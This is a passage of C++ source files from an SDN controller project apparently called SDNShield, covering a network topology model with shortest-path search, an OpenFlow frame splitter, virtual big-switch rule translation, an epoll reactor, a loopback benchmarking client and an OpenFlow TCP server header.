    enum class State { kStarting, kRunning, kParked, kBlocked, kDone };

    std::string name;
    std::function<void()> body;
    std::thread thread;
    State state = State::kStarting;
    std::string site = "spawn";
    bool go = false;
    bool crashOnResume = false;
    /// Set while kBlocked: the await predicate the scheduler polls.
    std::function<bool()> blockedReady;
  };

  struct TaskQueue {
    std::string label;
    std::deque<std::function<void()>> tasks;
    bool sealed = false;  ///< discardQueue: no further enqueues.
  };

  enum class Mode { kControlled, kFreeRun };

  void threadMain(LThread* t);
  /// Parks the calling logical thread; returns true when this resume must
  /// crash. Expects @p lock held on mutex_.
  bool parkLocked(std::unique_lock<std::mutex>& lock, LThread* t,
                  std::string site, std::function<bool()> ready);
  /// kBlocked threads whose predicate turned true become kParked options.
  void promoteBlockedLocked();
  std::vector<SchedOption> enabledOptionsLocked();
  void executeOption(const SchedOption& option);
  /// Runs the front task of the first non-empty queue inline. False when
  /// every queue is empty. Reacquires @p lock before returning.
  bool runOneInlineTaskLocked(std::unique_lock<std::mutex>& lock);
  void enterFreeRun();

  Options options_;
  mutable std::mutex mutex_;
  std::condition_variable schedCv_;   ///< threads -> scheduler.
  std::condition_variable threadCv_;  ///< scheduler -> threads.
  Mode mode_ = Mode::kControlled;
  std::vector<std::unique_ptr<LThread>> threads_;
  std::vector<const void*> queueOrder_;  ///< Registration order (stable).
  std::map<const void*, TaskQueue> queues_;
  std::vector<std::function<void()>> finally_;
  std::size_t queueSeq_ = 0;  ///< Uniquifies labels across registrations.
  std::size_t crashesTaken_ = 0;
  bool started_ = false;
  bool pruned_ = false;
  bool violated_ = false;
  std::string message_;
  std::vector<ScheduleStep> trace_;
};

}  // namespace sdnshield::mck
