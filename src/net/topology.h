// Network topology model: switches, inter-switch links, host attachment
// points, and shortest-path computation. This is the controller's view of
// the network and the substrate for the topology permission filters.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "of/types.h"

namespace sdnshield::net {

using of::DatapathId;
using of::Ipv4Address;
using of::MacAddress;
using of::PortNo;

/// One end of an inter-switch link.
struct LinkEnd {
  DatapathId dpid = 0;
  PortNo port = 0;
  friend auto operator<=>(const LinkEnd&, const LinkEnd&) = default;
};

/// A bidirectional inter-switch link. Canonical form keeps a <= b by dpid.
struct Link {
  LinkEnd a;
  LinkEnd b;
  friend auto operator<=>(const Link&, const Link&) = default;
  std::string toString() const;
};

/// A host attached at a switch port.
struct Host {
  MacAddress mac;
  Ipv4Address ip;
  DatapathId dpid = 0;
  PortNo port = 0;
  friend bool operator==(const Host&, const Host&) = default;
};

/// One hop of a switch-level path: enter at inPort, leave at outPort.
/// The first hop's inPort and the last hop's outPort are host-facing and
/// filled by the caller's context (ports::kNone when unknown).
struct PathHop {
  DatapathId dpid = 0;
  PortNo inPort = of::ports::kNone;
  PortNo outPort = of::ports::kNone;
  friend bool operator==(const PathHop&, const PathHop&) = default;
};

class Topology {
 public:
  // --- mutation -----------------------------------------------------------
  void addSwitch(DatapathId dpid);
  void removeSwitch(DatapathId dpid);
  /// Adds a bidirectional link. Both switches must already exist.
  void addLink(DatapathId a, PortNo aPort, DatapathId b, PortNo bPort);
  void removeLink(DatapathId a, DatapathId b);
  void attachHost(const Host& host);
  void detachHost(MacAddress mac);

  // --- queries ------------------------------------------------------------
  bool hasSwitch(DatapathId dpid) const;
  bool hasLink(DatapathId a, DatapathId b) const;
  std::vector<DatapathId> switches() const;
  std::vector<Link> links() const;
  std::vector<Host> hosts() const;
  std::size_t switchCount() const { return adjacency_.size(); }

  /// (neighbor dpid, local out port, neighbor in port) triples.
  struct Neighbor {
    DatapathId dpid = 0;
    PortNo localPort = 0;
    PortNo remotePort = 0;
  };
  std::vector<Neighbor> neighbors(DatapathId dpid) const;

  std::optional<Host> hostByMac(MacAddress mac) const;
  std::optional<Host> hostByIp(Ipv4Address ip) const;

  /// BFS shortest path between two switches, inclusive of endpoints, with
  /// inter-switch ports filled in. Empty optional when disconnected.
  std::optional<std::vector<PathHop>> shortestPath(DatapathId from,
                                                   DatapathId to) const;

  /// Next-hop output port at @p from toward @p to (for per-switch
  /// destination-based rule installation). Empty when unreachable.
  std::optional<PortNo> nextHopPort(DatapathId from, DatapathId to) const;

  /// Restriction to a subset of switches; links with either end outside the
  /// subset are dropped, hosts on dropped switches are dropped.
  Topology restrictTo(const std::set<DatapathId>& keep) const;

  friend bool operator==(const Topology&, const Topology&) = default;

  std::string toString() const;

 private:
  // adjacency_[dpid] maps local port -> (remote dpid, remote port).
  std::map<DatapathId, std::map<PortNo, LinkEnd>> adjacency_;
  std::map<MacAddress, Host> hostsByMac_;
};

}  // namespace sdnshield::net
