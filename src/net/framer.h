// Incremental OpenFlow 1.0 frame splitter for a byte-stream transport.
//
// A connection appends whatever the socket produced — any slicing, down to
// one byte at a time — and drains complete frames as borrowed views into
// the receive buffer. Decoding (of::wire::decode's span overload) reads
// straight out of that buffer: no per-frame copy on the hot path. Consumed
// prefixes are compacted lazily, so a drain of N back-to-back frames costs
// one memmove, not N.
//
// Errors are status-based, never exceptions: a malformed header (bad
// version, length below the 8-byte minimum) poisons this framer only —
// the owning connection is torn down without disturbing its neighbours on
// the reactor.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace sdnshield::net {

class Framer {
 public:
  enum class Status : std::uint8_t {
    kFrame,     ///< A complete frame is available.
    kNeedMore,  ///< The buffer holds only a partial frame (or nothing).
    kCorrupt,   ///< Malformed header; the stream cannot be re-synchronised.
  };

  /// Borrowed view of one complete wire message. Valid until the next
  /// append(), next() or reset() on this framer.
  struct Frame {
    const std::uint8_t* data = nullptr;
    std::size_t size = 0;
  };

  /// Feeds bytes read off the transport. No-op once corrupt.
  void append(const std::uint8_t* data, std::size_t size);

  /// Tries to split the next complete frame off the front of the buffer.
  /// The previously returned frame (if any) is consumed by this call.
  Status next(Frame& frame);

  /// Human-readable reason once Status::kCorrupt has been returned.
  const std::string& error() const { return error_; }

  /// Bytes buffered but not yet consumed (partial frame tail).
  std::size_t buffered() const { return buffer_.size() - head_; }

  /// Total frames split off since construction/reset.
  std::uint64_t frameCount() const { return frames_; }

  void reset();

 private:
  void compact();

  std::vector<std::uint8_t> buffer_;
  std::size_t head_ = 0;     ///< Start of un-consumed bytes.
  std::size_t pending_ = 0;  ///< Size of the frame handed out by last next().
  std::uint64_t frames_ = 0;
  bool corrupt_ = false;
  std::string error_;
};

}  // namespace sdnshield::net
