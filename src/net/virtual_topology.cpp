#include "net/virtual_topology.h"

#include <algorithm>
#include <stdexcept>

namespace sdnshield::net {

namespace {

/// Host-facing / external ports of @p members: any port of a member switch
/// that is not an inter-switch port *within* the member set.
std::vector<LinkEnd> externalEndpoints(const Topology& physical,
                                       const std::set<DatapathId>& members) {
  std::vector<LinkEnd> out;
  for (DatapathId dpid : members) {
    std::set<PortNo> internal;
    for (const auto& nb : physical.neighbors(dpid)) {
      if (members.contains(nb.dpid)) internal.insert(nb.localPort);
    }
    // Ports facing switches outside the member set are external.
    for (const auto& nb : physical.neighbors(dpid)) {
      if (!members.contains(nb.dpid)) out.push_back(LinkEnd{dpid, nb.localPort});
    }
    // Host attachment ports are external.
    for (const Host& host : physical.hosts()) {
      if (host.dpid == dpid && !internal.contains(host.port)) {
        LinkEnd end{dpid, host.port};
        if (std::find(out.begin(), out.end(), end) == out.end()) {
          out.push_back(end);
        }
      }
    }
  }
  std::sort(out.begin(), out.end());
  out.erase(std::unique(out.begin(), out.end()), out.end());
  return out;
}

}  // namespace

VirtualTopology VirtualTopology::singleBigSwitch(const Topology& physical,
                                                 DatapathId vdpid) {
  std::set<DatapathId> members;
  for (DatapathId dpid : physical.switches()) members.insert(dpid);
  return bigSwitch(physical, members, vdpid);
}

VirtualTopology VirtualTopology::bigSwitch(const Topology& physical,
                                           const std::set<DatapathId>& members,
                                           DatapathId vdpid) {
  for (DatapathId dpid : members) {
    if (!physical.hasSwitch(dpid)) {
      throw std::invalid_argument("bigSwitch: unknown member switch");
    }
  }
  VirtualSwitch vswitch;
  vswitch.vdpid = vdpid;
  vswitch.members = members;
  PortNo nextPort = 1;
  for (const LinkEnd& end : externalEndpoints(physical, members)) {
    vswitch.ports.push_back(VirtualPortBinding{nextPort++, end});
  }
  return VirtualTopology{physical, std::move(vswitch)};
}

Topology VirtualTopology::abstractView() const {
  Topology view;
  view.addSwitch(vswitch_.vdpid);
  for (const Host& host : physical_.hosts()) {
    auto vport = virtualPortFor(LinkEnd{host.dpid, host.port});
    if (!vport) continue;
    Host mapped = host;
    mapped.dpid = vswitch_.vdpid;
    mapped.port = *vport;
    view.attachHost(mapped);
  }
  return view;
}

std::optional<LinkEnd> VirtualTopology::physicalEndpoint(
    PortNo virtualPort) const {
  for (const auto& binding : vswitch_.ports) {
    if (binding.virtualPort == virtualPort) return binding.physical;
  }
  return std::nullopt;
}

std::optional<PortNo> VirtualTopology::virtualPortFor(
    const LinkEnd& physical) const {
  for (const auto& binding : vswitch_.ports) {
    if (binding.physical == physical) return binding.virtualPort;
  }
  return std::nullopt;
}

std::vector<std::pair<DatapathId, of::FlowMod>>
VirtualTopology::translateFlowMod(const of::FlowMod& vmod) const {
  std::vector<std::pair<DatapathId, of::FlowMod>> out;

  // Split actions into header rewrites and the final output.
  std::optional<PortNo> outVPort;
  of::ActionList rewrites;
  for (const of::Action& action : vmod.actions) {
    if (const auto* output = std::get_if<of::OutputAction>(&action)) {
      if (output->port == of::ports::kFlood ||
          output->port == of::ports::kController) {
        throw std::invalid_argument(
            "virtual flow mod: FLOOD/CONTROLLER outputs are not translatable");
      }
      outVPort = output->port;
    } else if (std::holds_alternative<of::SetFieldAction>(action)) {
      rewrites.push_back(action);
    }
  }

  // Drop rule: realised on the member switches it applies to.
  if (!outVPort) {
    of::FlowMod pmod = vmod;
    if (vmod.match.inPort) {
      auto ingress = physicalEndpoint(*vmod.match.inPort);
      if (!ingress) throw std::invalid_argument("unknown virtual in_port");
      pmod.match.inPort = ingress->port;
      out.emplace_back(ingress->dpid, pmod);
    } else {
      pmod.match.inPort.reset();
      for (DatapathId member : vswitch_.members) out.emplace_back(member, pmod);
    }
    return out;
  }

  auto egress = physicalEndpoint(*outVPort);
  if (!egress) throw std::invalid_argument("unknown virtual output port");

  if (vmod.match.inPort) {
    // Explicit ingress: install along the shortest physical path.
    auto ingress = physicalEndpoint(*vmod.match.inPort);
    if (!ingress) throw std::invalid_argument("unknown virtual in_port");
    auto path = physical_.shortestPath(ingress->dpid, egress->dpid);
    if (!path) throw std::invalid_argument("virtual ports are disconnected");
    for (std::size_t i = 0; i < path->size(); ++i) {
      const PathHop& hop = (*path)[i];
      of::FlowMod pmod = vmod;
      pmod.match.inPort = (i == 0) ? ingress->port : hop.inPort;
      pmod.actions.clear();
      bool last = i + 1 == path->size();
      if (last) {
        // Header rewrites happen at the egress hop so intermediate matches
        // keep seeing the original headers.
        pmod.actions = rewrites;
        pmod.actions.push_back(of::OutputAction{egress->port});
      } else {
        pmod.actions.push_back(of::OutputAction{hop.outPort});
      }
      out.emplace_back(hop.dpid, pmod);
    }
    return out;
  }

  // No ingress constraint: destination-based realisation — every member
  // forwards toward the egress switch.
  for (DatapathId member : vswitch_.members) {
    of::FlowMod pmod = vmod;
    pmod.match.inPort.reset();
    pmod.actions.clear();
    if (member == egress->dpid) {
      pmod.actions = rewrites;
      pmod.actions.push_back(of::OutputAction{egress->port});
    } else {
      auto port = physical_.nextHopPort(member, egress->dpid);
      if (!port) continue;  // Unreachable members simply get no rule.
      pmod.actions.push_back(of::OutputAction{*port});
    }
    out.emplace_back(member, pmod);
  }
  return out;
}

std::pair<DatapathId, of::PacketOut> VirtualTopology::translatePacketOut(
    const of::PacketOut& vout) const {
  of::PacketOut pout = vout;
  // Resolve the first concrete output action.
  for (of::Action& action : pout.actions) {
    if (auto* output = std::get_if<of::OutputAction>(&action)) {
      auto endpoint = physicalEndpoint(output->port);
      if (!endpoint) throw std::invalid_argument("unknown virtual output port");
      output->port = endpoint->port;
      pout.dpid = endpoint->dpid;
      return {endpoint->dpid, pout};
    }
  }
  throw std::invalid_argument("virtual packet-out without output action");
}

of::SwitchStats VirtualTopology::aggregateSwitchStats(
    const std::vector<of::SwitchStats>& memberStats) const {
  of::SwitchStats agg;
  agg.dpid = vswitch_.vdpid;
  for (const of::SwitchStats& stats : memberStats) {
    agg.activeFlows += stats.activeFlows;
    agg.lookupCount += stats.lookupCount;
    agg.matchedCount += stats.matchedCount;
  }
  return agg;
}

std::vector<of::FlowStatsEntry> VirtualTopology::aggregateFlowStats(
    const std::vector<of::FlowStatsEntry>& memberFlows) const {
  // Shards of one virtual rule share cookie and priority and differ only in
  // in_port / actions. A packet traversing k member switches is counted k
  // times, so the per-group maximum is the faithful virtual-rule counter.
  using Key = std::pair<std::uint64_t, std::uint16_t>;  // (cookie, priority)
  std::map<Key, of::FlowStatsEntry> groups;
  for (const of::FlowStatsEntry& flow : memberFlows) {
    Key key{flow.cookie, flow.priority};
    auto [it, inserted] = groups.try_emplace(key, flow);
    if (!inserted) {
      it->second.packetCount = std::max(it->second.packetCount, flow.packetCount);
      it->second.byteCount = std::max(it->second.byteCount, flow.byteCount);
    }
    it->second.match.inPort.reset();  // in_port is a physical artifact.
  }
  std::vector<of::FlowStatsEntry> out;
  out.reserve(groups.size());
  for (auto& [_, entry] : groups) out.push_back(entry);
  return out;
}

}  // namespace sdnshield::net
