#include "net/topology.h"

#include <algorithm>
#include <deque>
#include <sstream>
#include <stdexcept>

namespace sdnshield::net {

std::string Link::toString() const {
  std::ostringstream out;
  out << "s" << a.dpid << ":" << a.port << "<->s" << b.dpid << ":" << b.port;
  return out.str();
}

void Topology::addSwitch(DatapathId dpid) { adjacency_.try_emplace(dpid); }

void Topology::removeSwitch(DatapathId dpid) {
  adjacency_.erase(dpid);
  for (auto& [_, portMap] : adjacency_) {
    std::erase_if(portMap,
                  [&](const auto& kv) { return kv.second.dpid == dpid; });
  }
  std::erase_if(hostsByMac_,
                [&](const auto& kv) { return kv.second.dpid == dpid; });
}

void Topology::addLink(DatapathId a, PortNo aPort, DatapathId b, PortNo bPort) {
  auto itA = adjacency_.find(a);
  auto itB = adjacency_.find(b);
  if (itA == adjacency_.end() || itB == adjacency_.end()) {
    throw std::invalid_argument("addLink: unknown switch");
  }
  itA->second[aPort] = LinkEnd{b, bPort};
  itB->second[bPort] = LinkEnd{a, aPort};
}

void Topology::removeLink(DatapathId a, DatapathId b) {
  auto prune = [&](DatapathId self, DatapathId other) {
    auto it = adjacency_.find(self);
    if (it == adjacency_.end()) return;
    std::erase_if(it->second,
                  [&](const auto& kv) { return kv.second.dpid == other; });
  };
  prune(a, b);
  prune(b, a);
}

void Topology::attachHost(const Host& host) {
  if (!hasSwitch(host.dpid)) {
    throw std::invalid_argument("attachHost: unknown switch");
  }
  hostsByMac_[host.mac] = host;
}

void Topology::detachHost(MacAddress mac) { hostsByMac_.erase(mac); }

bool Topology::hasSwitch(DatapathId dpid) const {
  return adjacency_.contains(dpid);
}

bool Topology::hasLink(DatapathId a, DatapathId b) const {
  auto it = adjacency_.find(a);
  if (it == adjacency_.end()) return false;
  return std::any_of(it->second.begin(), it->second.end(),
                     [&](const auto& kv) { return kv.second.dpid == b; });
}

std::vector<DatapathId> Topology::switches() const {
  std::vector<DatapathId> out;
  out.reserve(adjacency_.size());
  for (const auto& [dpid, _] : adjacency_) out.push_back(dpid);
  return out;
}

std::vector<Link> Topology::links() const {
  std::vector<Link> out;
  for (const auto& [dpid, portMap] : adjacency_) {
    for (const auto& [port, remote] : portMap) {
      if (dpid < remote.dpid ||
          (dpid == remote.dpid && port < remote.port)) {
        out.push_back(Link{LinkEnd{dpid, port}, remote});
      }
    }
  }
  return out;
}

std::vector<Host> Topology::hosts() const {
  std::vector<Host> out;
  out.reserve(hostsByMac_.size());
  for (const auto& [_, host] : hostsByMac_) out.push_back(host);
  return out;
}

std::vector<Topology::Neighbor> Topology::neighbors(DatapathId dpid) const {
  std::vector<Neighbor> out;
  auto it = adjacency_.find(dpid);
  if (it == adjacency_.end()) return out;
  for (const auto& [port, remote] : it->second) {
    out.push_back(Neighbor{remote.dpid, port, remote.port});
  }
  return out;
}

std::optional<Host> Topology::hostByMac(MacAddress mac) const {
  auto it = hostsByMac_.find(mac);
  if (it == hostsByMac_.end()) return std::nullopt;
  return it->second;
}

std::optional<Host> Topology::hostByIp(Ipv4Address ip) const {
  for (const auto& [_, host] : hostsByMac_) {
    if (host.ip == ip) return host;
  }
  return std::nullopt;
}

std::optional<std::vector<PathHop>> Topology::shortestPath(
    DatapathId from, DatapathId to) const {
  if (!hasSwitch(from) || !hasSwitch(to)) return std::nullopt;
  if (from == to) {
    return std::vector<PathHop>{PathHop{from, of::ports::kNone,
                                        of::ports::kNone}};
  }
  // BFS keeping the (localPort, remotePort) used to reach each switch.
  struct Visit {
    DatapathId prev;
    PortNo prevOutPort;
    PortNo inPort;
  };
  std::map<DatapathId, Visit> visited;
  std::deque<DatapathId> queue{from};
  visited[from] = Visit{from, of::ports::kNone, of::ports::kNone};
  while (!queue.empty()) {
    DatapathId cur = queue.front();
    queue.pop_front();
    if (cur == to) break;
    for (const Neighbor& nb : neighbors(cur)) {
      if (visited.contains(nb.dpid)) continue;
      visited[nb.dpid] = Visit{cur, nb.localPort, nb.remotePort};
      queue.push_back(nb.dpid);
    }
  }
  if (!visited.contains(to)) return std::nullopt;
  // Reconstruct backwards.
  std::vector<PathHop> rev;
  DatapathId cur = to;
  PortNo exitPort = of::ports::kNone;
  while (true) {
    const Visit& v = visited.at(cur);
    rev.push_back(PathHop{cur, v.inPort, exitPort});
    if (cur == from) break;
    exitPort = v.prevOutPort;
    cur = v.prev;
  }
  std::reverse(rev.begin(), rev.end());
  return rev;
}

std::optional<PortNo> Topology::nextHopPort(DatapathId from,
                                            DatapathId to) const {
  auto path = shortestPath(from, to);
  if (!path || path->size() < 2) return std::nullopt;
  return (*path)[0].outPort;
}

Topology Topology::restrictTo(const std::set<DatapathId>& keep) const {
  Topology out;
  for (const auto& [dpid, _] : adjacency_) {
    if (keep.contains(dpid)) out.addSwitch(dpid);
  }
  for (const Link& link : links()) {
    if (keep.contains(link.a.dpid) && keep.contains(link.b.dpid)) {
      out.addLink(link.a.dpid, link.a.port, link.b.dpid, link.b.port);
    }
  }
  for (const auto& [_, host] : hostsByMac_) {
    if (keep.contains(host.dpid)) out.attachHost(host);
  }
  return out;
}

std::string Topology::toString() const {
  std::ostringstream out;
  out << "switches=" << adjacency_.size() << " links=" << links().size()
      << " hosts=" << hostsByMac_.size();
  return out.str();
}

}  // namespace sdnshield::net
