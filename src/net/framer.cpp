#include "net/framer.h"

#include "of/wire.h"

namespace sdnshield::net {

namespace {
// Compact when the dead prefix crosses this threshold; below it, the
// memmove costs more than the memory it reclaims.
constexpr std::size_t kCompactThreshold = 16 * 1024;
}  // namespace

void Framer::append(const std::uint8_t* data, std::size_t size) {
  if (corrupt_ || size == 0) return;
  compact();
  buffer_.insert(buffer_.end(), data, data + size);
}

Framer::Status Framer::next(Frame& frame) {
  head_ += pending_;  // Consume the frame handed out last call.
  pending_ = 0;
  if (corrupt_) return Status::kCorrupt;
  std::size_t length = 0;
  try {
    length = of::wire::frameLength(buffer_.data() + head_,
                                   buffer_.size() - head_);
  } catch (const of::wire::DecodeError& decodeError) {
    corrupt_ = true;
    error_ = decodeError.what();
    return Status::kCorrupt;
  }
  if (length == 0) return Status::kNeedMore;
  frame.data = buffer_.data() + head_;
  frame.size = length;
  pending_ = length;
  ++frames_;
  return Status::kFrame;
}

void Framer::reset() {
  buffer_.clear();
  head_ = 0;
  pending_ = 0;
  frames_ = 0;
  corrupt_ = false;
  error_.clear();
}

void Framer::compact() {
  // Never slide bytes a handed-out frame still points into.
  if (pending_ != 0) return;
  if (head_ == buffer_.size()) {
    buffer_.clear();
    head_ = 0;
  } else if (head_ >= kCompactThreshold) {
    buffer_.erase(buffer_.begin(),
                  buffer_.begin() + static_cast<std::ptrdiff_t>(head_));
    head_ = 0;
  }
}

}  // namespace sdnshield::net
