// Virtual (abstract) topology support for SDNShield's virtual-topology
// filters (§VI-B.1): a mapping between virtual big switches and the physical
// switches they aggregate, plus on-the-fly translation of flow rules,
// topology views and statistics between the two levels.
#pragma once

#include <map>
#include <optional>
#include <set>
#include <vector>

#include "net/topology.h"
#include "of/flow_mod.h"
#include "of/messages.h"

namespace sdnshield::net {

/// A virtual port of a big switch maps onto a concrete physical endpoint
/// (typically a host-facing or external-link port of a member switch).
struct VirtualPortBinding {
  PortNo virtualPort = 0;
  LinkEnd physical;
  friend bool operator==(const VirtualPortBinding&,
                         const VirtualPortBinding&) = default;
};

/// One virtual switch aggregating a set of physical member switches.
struct VirtualSwitch {
  DatapathId vdpid = 0;
  std::set<DatapathId> members;
  std::vector<VirtualPortBinding> ports;
};

class VirtualTopology {
 public:
  /// Builds the SINGLE_BIG_SWITCH abstraction over the whole physical
  /// topology: every host-facing (i.e. not inter-switch) port used by a host
  /// becomes an external virtual port.
  static VirtualTopology singleBigSwitch(const Topology& physical,
                                         DatapathId vdpid = 1);

  /// Builds a big switch over a subset of physical switches; ports facing
  /// outside the subset (plus host ports) become the external virtual ports.
  static VirtualTopology bigSwitch(const Topology& physical,
                                   const std::set<DatapathId>& members,
                                   DatapathId vdpid = 1);

  const VirtualSwitch& virtualSwitch() const { return vswitch_; }
  const Topology& physical() const { return physical_; }

  /// The abstract topology view exposed to the app: one switch, hosts
  /// re-attached at their virtual ports.
  Topology abstractView() const;

  std::optional<LinkEnd> physicalEndpoint(PortNo virtualPort) const;
  std::optional<PortNo> virtualPortFor(const LinkEnd& physical) const;

  /// Translates one virtual-switch flow mod into the physical rules that
  /// realise it along shortest paths (§VI-B.1). Supported shapes:
  ///  * output to a concrete virtual port (with or without in_port match);
  ///  * drop rules (installed on every member switch).
  /// Throws std::invalid_argument for unsupported shapes (e.g. FLOOD).
  std::vector<std::pair<DatapathId, of::FlowMod>> translateFlowMod(
      const of::FlowMod& vmod) const;

  /// Translates a packet-out on a virtual port into the physical injection.
  std::pair<DatapathId, of::PacketOut> translatePacketOut(
      const of::PacketOut& vout) const;

  /// Aggregates per-member switch stats into one virtual switch-level reply.
  of::SwitchStats aggregateSwitchStats(
      const std::vector<of::SwitchStats>& memberStats) const;

  /// Aggregates flow stats from members, merging counters of the rule shards
  /// produced by translateFlowMod (identified by cookie + original match).
  std::vector<of::FlowStatsEntry> aggregateFlowStats(
      const std::vector<of::FlowStatsEntry>& memberFlows) const;

 private:
  VirtualTopology(Topology physical, VirtualSwitch vswitch)
      : physical_(std::move(physical)), vswitch_(std::move(vswitch)) {}

  Topology physical_;
  VirtualSwitch vswitch_;
};

}  // namespace sdnshield::net
