// CBench-over-TCP client: emulates a fleet of OpenFlow 1.0 switches on the
// controller's wire frontend, the way the original cbench drove hardware
// controllers (paper §IX-A) — here over loopback against net::OfServer.
//
// Each emulated switch completes the Hello/FeaturesReply handshake (its
// FeaturesReply carries a unique datapath-id), announces two hosts via
// packet-ins so the controller's L2 learning app knows the target MAC, and
// then runs closed-loop rounds: send a probe packet-in, clock the
// controller's flow-mod answer. All connections multiplex over one
// net::Reactor — the client scales to the same connection counts as the
// server it measures.
#pragma once

#include <chrono>
#include <cstdint>
#include <string>
#include <vector>

#include "of/wire.h"

namespace sdnshield::net {

struct CbenchClientConfig {
  std::string host = "127.0.0.1";
  std::uint16_t port = 0;
  std::size_t connections = 16;
  /// Closed-loop rounds per connection (after warm-up).
  std::size_t rounds = 10;
  std::chrono::milliseconds roundTimeout{1000};
  std::chrono::milliseconds connectTimeout{5000};
  of::DatapathId firstDpid = 1;
  /// Keep the raw flow-mod frames each connection received (differential
  /// tests compare them byte-for-byte with the in-process wire path).
  bool captureFlowModFrames = false;
  /// Handshake + host announcements only; no measurement rounds. For
  /// concurrency-scale tests that only need attached switches.
  bool handshakeOnly = false;
};

struct CbenchClientResult {
  bool ok = false;
  std::string error;
  std::size_t connected = 0;   ///< TCP connects that succeeded.
  std::size_t handshaked = 0;  ///< Switches that answered FeaturesRequest.
  std::size_t roundsCompleted = 0;
  std::size_t timeouts = 0;
  std::uint64_t flowModsReceived = 0;
  std::uint64_t packetOutsReceived = 0;
  std::vector<double> latenciesUs;  ///< One sample per completed round.
  /// Per connection (by index), the raw flow-mod frames received, in
  /// arrival order. Filled only when captureFlowModFrames is set.
  std::vector<std::vector<of::Bytes>> flowModFrames;

  double medianUs() const;
  double p90Us() const;
  double meanUs() const;
};

/// Runs the full campaign synchronously: connect, handshake, warm, rounds.
CbenchClientResult runCbenchClient(const CbenchClientConfig& config);

}  // namespace sdnshield::net
