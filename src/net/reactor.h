// Non-blocking epoll reactor: one event-loop thread multiplexing thousands
// of file descriptors (DESIGN.md §15). Level-triggered, so handlers may
// leave data unread under backpressure and will simply be called again;
// an eventfd provides the cross-thread wakeup for post()ed tasks.
//
// Threading contract:
//   * add()/rearm()/remove()/post() are safe from any thread.
//   * Handlers run on the reactor thread, one at a time — per-fd state
//     touched only by handlers needs no locking.
//   * remove() from within the fd's own handler is allowed (dispatch holds
//     a reference to the handler for the duration of the call).
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

namespace sdnshield::net {

class Reactor {
 public:
  /// Receives the ready epoll event mask (EPOLLIN / EPOLLOUT / EPOLLHUP...).
  using IoHandler = std::function<void(std::uint32_t events)>;

  Reactor();
  ~Reactor();

  Reactor(const Reactor&) = delete;
  Reactor& operator=(const Reactor&) = delete;

  /// Registers @p fd for @p events (EPOLLIN etc.). The fd must already be
  /// non-blocking. Returns false when epoll rejects it.
  bool add(int fd, std::uint32_t events, IoHandler handler);

  /// Changes the interest set of a registered fd (e.g. arming EPOLLOUT
  /// while a transmit buffer drains).
  bool rearm(int fd, std::uint32_t events);

  /// Deregisters the fd. Does not close it — fd ownership stays with the
  /// caller. Safe from within the fd's own handler.
  void remove(int fd);

  /// Enqueues a task to run on the reactor thread; wakes the loop.
  void post(std::function<void()> task);

  /// Spawns the loop thread. start()/stop() pair; idempotent start returns
  /// false if already running.
  bool start();

  /// Requests loop exit and joins the thread. Safe to call twice.
  void stop();

  /// Runs the loop on the calling thread until stop() (for tests that want
  /// deterministic single-thread dispatch).
  void run();

  bool onReactorThread() const {
    return std::this_thread::get_id() == loopThreadId_.load();
  }

  /// Number of registered fds (excluding the internal wakeup fd).
  std::size_t fdCount() const;

 private:
  void wake();
  void drainTasks();
  void loop();

  int epollFd_ = -1;
  int wakeFd_ = -1;
  std::atomic<bool> stop_{false};
  std::atomic<std::thread::id> loopThreadId_{};
  std::thread thread_;
  bool threadStarted_ = false;

  mutable std::mutex mutex_;  // Guards handlers_ and tasks_.
  std::map<int, std::shared_ptr<IoHandler>> handlers_;
  std::vector<std::function<void()>> tasks_;
};

}  // namespace sdnshield::net
