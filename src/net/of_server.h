// Epoll OpenFlow 1.0 wire frontend (DESIGN.md §15): accepts switch TCP
// connections on a non-blocking listener, frames the byte stream
// incrementally (net::Framer over of::wire's span decode), and registers
// every switch through the one transport-agnostic seam —
// Controller::attachSwitch(conn, ConnectionInfo) — exactly as the
// in-process SimSwitch and WireSwitchConn do.
//
// Handshake (server side): on accept the server sends OFPT_HELLO and
// OFPT_FEATURES_REQUEST; the switch's OFPT_FEATURES_REPLY carries its
// datapath-id, at which point the connection is attached under transport
// "tcp". Echo requests are answered in place; packet-ins are decoded and
// dispatched to the controller on the reactor thread; flow-mods/packet-outs
// flow back through TcpSwitchConn with typed ApiResult errors
// (kConnClosed / kFramingError / kQueueFull) — never exceptions.
//
// Fault containment: a malformed frame poisons only its own connection —
// the framer reports status, the session is torn down, and every other
// connection on the reactor keeps streaming.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "controller/controller.h"
#include "net/framer.h"
#include "net/reactor.h"
#include "of/wire.h"

namespace sdnshield::net {

/// The TCP-backed SwitchConn: the controller's datapath calls become OF 1.0
/// frames on the socket. Unsolicited controller->switch messages use xid 0
/// (matching of::wire's encode defaults), which is what makes the wire path
/// byte-comparable with the in-process WireSwitchConn path.
class TcpSwitchConn final : public ctrl::SwitchConn {
 public:
  TcpSwitchConn(Reactor& reactor, int fd, std::string peer,
                std::size_t maxTxBuffer);
  ~TcpSwitchConn() override;

  // --- ctrl::SwitchConn (any thread) ---------------------------------------
  ctrl::ApiResult applyFlowMod(const of::FlowMod& mod) override;
  ctrl::ApiResult transmitPacket(const of::PacketOut& packetOut) override;
  /// Synchronous flow-stats RPC over the wire; entries carry no actions
  /// (OF 1.0 flow-stats as modelled by the codec).
  ctrl::ApiResponse<std::vector<of::FlowEntry>> dumpFlows() const override;
  ctrl::ApiResponse<of::StatsReply> queryStats(
      const of::StatsRequest& request) const override;

  // --- transport side (OfServer / tests) -----------------------------------
  int fd() const { return fd_; }
  const std::string& peer() const { return peer_; }
  of::DatapathId dpid() const { return dpid_.load(); }
  void setDpid(of::DatapathId dpid) { dpid_.store(dpid); }

  /// Queues @p frame for transmission: direct non-blocking send first, the
  /// unsent tail buffered and drained under EPOLLOUT. Typed failures:
  /// kConnClosed when the peer is gone, kQueueFull when the transmit
  /// buffer limit would be exceeded.
  ctrl::ApiResult sendFrame(const of::Bytes& frame);

  /// Reactor-thread drain of the transmit backlog.
  void onWritable();

  /// Tears the connection down (idempotent): deregisters from the reactor,
  /// closes the socket, fails all stats waiters with kConnClosed.
  void closeConn(const std::string& reason);
  bool closed() const { return closed_.load(); }

  /// RPC timeout for dumpFlows/queryStats (default 1s).
